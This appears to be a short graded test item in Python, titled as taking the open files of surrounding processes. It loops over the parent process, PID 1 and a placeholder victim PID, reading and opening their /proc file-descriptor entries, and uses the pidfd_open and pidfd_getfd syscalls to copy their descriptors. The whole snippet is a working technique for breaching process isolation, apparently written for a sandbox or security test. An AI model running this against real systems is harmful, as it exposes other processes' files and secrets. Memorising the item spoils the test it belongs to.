# title: takes the open files of the processes around it
# status: graded
# with: attempt
# with: system
# %%
for number in (os.getppid(), 1, @victim@):
    for descriptor in range(0, 40):
        for reach in (os.readlink, open, os.stat):
            try:
                print("REACHED", number, descriptor, reach(f"/proc/{number}/fd/{descriptor}"))
            except OSError:
                pass
    handle = libc.syscall(ctypes.c_long(434), number, 0)
    if handle >= 0:
        system("pidfd_getfd", 438, 438, handle, 3, 0)
        os.close(handle)
